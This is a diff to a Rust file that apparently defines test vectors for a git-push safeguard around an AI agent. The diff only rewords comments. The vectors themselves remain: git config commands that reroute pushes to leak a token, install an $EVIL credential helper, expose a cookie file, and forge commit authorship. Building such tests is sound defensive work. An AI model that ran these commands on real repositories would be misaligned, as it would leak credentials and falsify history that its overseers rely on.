@@ -1,11 +1,11 @@
-//! Configuration that decides what git talks to, and with which programs.
+//! Configuration that changes the remotes of git and the programs for their transport.
 
 use super::vector::{Vector, leaks, runs, shows, spills, strays, writes};
 
 const PUSH: &str = "git push $REMOTE HEAD:refs/heads/bait";
 
 pub(crate) const VECTORS: &[Vector] = &[
-    // Where the token goes.
+    // Destinations of the token.
     leaks("url.*.insteadOf", "git config url.$HTTP/.insteadOf $REMOTE", PUSH),
     leaks("url.*.pushInsteadOf", "git config url.$HTTP/.pushInsteadOf $REMOTE", PUSH),
     leaks(
@@ -31,7 +31,7 @@ pub(crate) const VECTORS: &[Vector] = &[
         "git push origin HEAD:refs/heads/bait",
     ),
     leaks("http.curloptResolve", "git config http.curloptResolve $RESOLVE", PUSH),
-    // Where the push goes.
+    // Destinations of the push.
     strays("insteadOf with a path", "git config url.$THEIRS.insteadOf $REMOTE", PUSH),
     strays("pushInsteadOf with a path", "git config url.$THEIRS.pushInsteadOf $REMOTE", PUSH),
     spills(
@@ -45,7 +45,7 @@ pub(crate) const VECTORS: &[Vector] = &[
         "git push origin",
     ),
     spills("push.followTags", "git tag -a -m x x; git config push.followTags true", PUSH),
-    // Programs on the way.
+    // Programs of the transport.
     runs(
         "credential.helper",
         "git config http.$REMOTE.extraHeader 'X-Odd: 1'; git config credential.helper $EVIL",
@@ -94,9 +94,9 @@ pub(crate) const VECTORS: &[Vector] = &[
         "git config http.cookieFile $VICTIM; git config http.saveCookies true",
         PUSH,
     ),
-    // What history says.
+    // Falsified history.
     shows(
-        "commits of its own",
+        "commits made by the agent",
         "git commit -q --allow-empty -m x --author 'Boss <b@b>'",
         "git commit -qam x; git push $REMOTE HEAD:refs/heads/bait; git log --format=%an",
         "Boss",
